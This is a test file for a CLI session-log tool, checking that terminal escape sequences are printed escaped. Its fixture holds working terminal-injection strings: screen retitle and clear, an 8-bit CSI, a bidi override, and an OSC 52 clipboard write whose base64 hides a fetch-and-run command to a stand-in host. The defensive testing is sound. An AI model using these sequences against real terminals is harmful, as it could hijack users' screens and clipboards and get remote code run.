import { mkdir, mkdtemp, realpath, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { finishChunk, openAiToolCallChunks, textChunk } from "../providers/stream-builders.js";
import { fakeKey } from "../providers/support/provider-session.js";
import { openAiSse, startSseTestServer, type SseTestServer } from "../providers/support/sse-test-server.js";
import { runTurnlogInProcess } from "./support/turnlog-in-process.js";

/*
 * Nothing from the log reaches a terminal raw (issue 30, item 10; docs/security.md): a session whose
 * model text, tool output, tool arguments and error messages hold escape sequences that would
 * retitle and clear the terminal, write the clipboard (OSC 52), act as an 8-bit CSI or reorder a
 * line (bidi override) is printed by `run`, `events`, `show` and `audit` with each of them escaped.
 * By effect: the CLI run in-process (`runCli`, with the output a terminal would get), a real HTTP
 * server with scripted replies, a real log.
 */

const keyEnv = "TURNLOG_TEST_ESCAPE_KEY";
const retitleAndClear = "\u001b]0;owned\u0007\u001b[2J";
const clipboard = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const eightBitCsi = "\u009b2J";
const bidiOverride = "\u202e";
const attack = `${retitleAndClear}${clipboard}${eightBitCsi}${bidiOverride}`;
/** How the CLI shows `attack`. */
const attackShown = "\\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x9b2J\\u202e";
/** Any character a terminal acts on: ESC, BEL and the other C0 controls but newline and tab, DEL, C1, bidi. */
const rawControl = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** Every ESC in coloured output starts one of turnlog's own SGR sequences. */
const notOwnColour = /\u001b(?!\[[0-9;]*m)/;

let server: SseTestServer;
let base: string;
let workDir: string;
let logDir: string;

beforeEach(async () => {
  server = await startSseTestServer();
  base = await realpath(await mkdtemp(path.join(os.tmpdir(), "turnlog-escapes-")));
  workDir = path.join(base, "workspace");
  logDir = path.join(base, "log");
  await mkdir(workDir);
});

afterEach(async () => {
  await server.close();
  await rm(base, { recursive: true, force: true });
});

const env = (extra: Record<string, string> = {}) => ({ [keyEnv]: fakeKey, XDG_CONFIG_HOME: path.join(base, "config"), XDG_STATE_HOME: path.join(base, "state"), ...extra });
const turnlog = (args: readonly string[], extra: Record<string, string> = {}) => runTurnlogInProcess(args, { cwd: workDir, env: env(extra) });

/**
 * Records one `turnlog run` session in which the model says `text`, reads `notes.txt` (which holds
 * `text`), tries to read a file named after `text` (which fails, quoting the name), and ends by
 * saying `text` again. Returns the run's output.
 */
async function recordSession(text: string, sessionId: string, extra: Record<string, string> = {}) {
  await writeFile(path.join(workDir, "notes.txt"), text);
  server.enqueue(
    openAiSse([
      textChunk(`${text}\n`),
      ...openAiToolCallChunks(0, { id: "call_notes", name: "read_file" }, [JSON.stringify({ path: "notes.txt" })]),
      ...openAiToolCallChunks(1, { id: "call_missing", name: "read_file" }, [JSON.stringify({ path: `missing-${text}.txt` })]),
      finishChunk("tool_calls"),
    ]),
    openAiSse([textChunk(`done: ${text}`), finishChunk("stop")]),
  );
  return turnlog(["run", "--base-url", `${server.url}/v1`, "--api-key-env", keyEnv, "--model", "gpt-test", "--dir", logDir, "--session", sessionId, "look"], extra);
}

describe("a session whose text holds terminal escape sequences", () => {
  it("is printed escaped by run, events, show and audit: no raw ESC, BEL, C1 or bidi character reaches stdout", async () => {
    const run = await recordSession(attack, "escapes");
    expect(run.code).toBe(0);
    // The log holds the text as it was: the model's second request carried the tool output raw.
    expect(JSON.stringify(server.requests[1]?.body)).toContain(JSON.stringify(attack).slice(1, -1));

    const outputs = {
      run,
      events: await turnlog(["events", "escapes", "--dir", logDir]),
      show: await turnlog(["show", "escapes", "--dir", logDir, "--events"]),
      audit: await turnlog(["audit", "escapes", "--dir", logDir]),
    };
    for (const [command, output] of Object.entries(outputs)) {
      expect(output.code, command).toBe(0);
      expect(output.stdout, command).not.toMatch(rawControl);
      expect(output.stderr, command).not.toMatch(rawControl);
    }
    // The escaped form is shown where the text is: the streamed answer, the tool's output, the failed call's message.
    expect(outputs.run.stdout).toContain(`assistant › ${attackShown}`);
    expect(outputs.run.stdout).toContain(`done: ${attackShown}`);
    // A timeline line previews the first 60 characters of a text, escapes included.
    expect(outputs.events.stdout).toContain(`turn.tool.succeeded            read_file · `);
    expect(outputs.events.stdout).toMatch(/turn\.tool\.succeeded .*"\\x1b\]0;owned\\x07\\x1b\[2J\\x1b\]52;c;/);
    expect(outputs.events.stdout).toMatch(/turn\.tool\.failed .*"missing-\\x1b\]0;owned\\x07/);
    expect(outputs.show.stdout).toContain(`final answer › done: ${attackShown}`);
    expect(outputs.audit.stdout).toContain("call_missing");
  }, 120_000);

  it("with colours forced on, every ESC on stdout is one of turnlog's own colours", async () => {
    await recordSession(attack, "coloured");
    for (const args of [["events"], ["show"], ["audit"]]) {
      const output = await turnlog([...args, "coloured", "--dir", logDir], { FORCE_COLOR: "1" });
      expect(output.code, args[0]).toBe(0);
      expect(output.stdout, args[0]).toMatch(/\u001b\[[0-9;]*m/);
      expect(output.stdout, args[0]).not.toMatch(notOwnColour);
      expect(output.stdout, args[0]).not.toMatch(/[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
  }, 120_000);

  it("--json keeps the same value, with DEL, C1 and bidi characters written as \\u escapes", async () => {
    await recordSession(attack, "json");
    const output = await turnlog(["events", "json", "--dir", logDir, "--json"]);
    expect(output.code).toBe(0);
    expect(output.stdout).not.toMatch(rawControl);
    expect(output.stdout).toContain("\\u009b2J\\u202e");
    const events = JSON.parse(output.stdout) as { type: string; data: { output?: string } }[];
    expect(events.find((event) => event.type === "turn.tool.succeeded")?.data.output).toContain(attack);
  }, 120_000);
});

describe("the benign twin", () => {
  const benign = "héllo wörld 🎉 日本語\tcolumn two\nsecond line";

  it("prints Unicode, emoji, tabs and newlines as they are, and turnlog's own colours", async () => {
    const run = await recordSession(benign, "benign");
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(`assistant › ${benign}\n`);
    const events = await turnlog(["events", "benign", "--dir", logDir]);
    // A timeline line previews text on one line: whitespace collapsed, as always.
    expect(events.stdout).toContain('"héllo wörld 🎉 日本語 column two second line"');
    const show = await turnlog(["show", "benign", "--dir", logDir]);
    expect(show.stdout).toContain(`final answer › done: ${benign}`);
    for (const output of [run, events, show]) expect(output.stdout).not.toMatch(/\\x[0-9a-f]{2}|\\u[0-9a-f]{4}/);

    const coloured = await turnlog(["show", "benign", "--dir", logDir], { FORCE_COLOR: "1" });
    expect(coloured.stdout).toContain(benign);
    expect(coloured.stdout).toContain("\u001b[32mcompleted\u001b[39m");
  }, 120_000);
});
